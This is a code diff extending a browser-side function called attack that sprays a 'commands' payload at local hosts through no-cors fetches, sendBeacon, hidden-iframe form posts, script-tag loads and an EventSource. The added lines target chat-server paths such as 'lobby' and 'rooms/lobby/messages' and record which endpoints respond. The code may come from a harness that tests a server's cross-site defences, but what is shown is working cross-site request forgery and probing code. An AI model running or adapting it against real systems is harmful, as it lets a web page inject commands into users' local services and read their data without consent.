@@ -24,7 +24,7 @@ function attack(ports: readonly number[]): string {
     const attacks = [];
     for (const host of hosts) {
       const url = 'http://' + host + '/';
-      for (const path of ['', 'ws', 'mychat', 'healthz', encodeURIComponent(commands)]) {
+      for (const path of ['', 'ws', 'mychat', 'healthz', 'lobby', 'rooms/lobby/messages', encodeURIComponent(commands)]) {
         attacks.push(quietly(fetch(url + path, { method: 'POST', mode: 'no-cors', body: commands })));
         attacks.push(quietly(fetch(url + path, { mode: 'no-cors' })));
       }
@@ -34,13 +34,26 @@ function attack(ports: readonly number[]): string {
       fields.set(commands, commands);
       attacks.push(quietly(fetch(url, { method: 'POST', mode: 'no-cors', body: fields, keepalive: true })));
       attacks.push(quietly(fetch('https://' + host + '/', { method: 'POST', mode: 'no-cors', body: commands })));
-      navigator.sendBeacon(url, commands);
-      for (const type of types) attacks.push(quietly(new Promise((done) => {
+      for (const path of ['', 'lobby', 'rooms/lobby/messages']) navigator.sendBeacon(url + path, commands);
+      for (const path of ['rooms.json', 'rooms/lobby/messages.json']) attacks.push(quietly(new Promise((done) => {
+        const script = document.createElement('script');
+        script.src = url + path;
+        script.onload = () => { opened.push(host + '/' + path); done(); };
+        script.onerror = done;
+        document.body.append(script);
+        setTimeout(done, 2000);
+      })));
+      attacks.push(quietly(new Promise((done) => {
+        const events = new EventSource(url + 'rooms/lobby/events.sse?after=0');
+        events.onopen = () => { opened.push(host + '/events'); events.close(); done(); };
+        events.onerror = () => { events.close(); done(); };
+      })));
+      for (const type of types) for (const path of ['', 'lobby']) attacks.push(quietly(new Promise((done) => {
         const frame = document.createElement('iframe');
         frame.name = 'frame' + Math.random();
         document.body.append(frame);
         const form = document.createElement('form');
-        Object.assign(form, { action: url, method: 'POST', enctype: type, target: frame.name });
+        Object.assign(form, { action: url + path, method: 'POST', enctype: type, target: frame.name });
         const field = document.createElement('textarea');
         field.name = commands;
         field.value = commands;
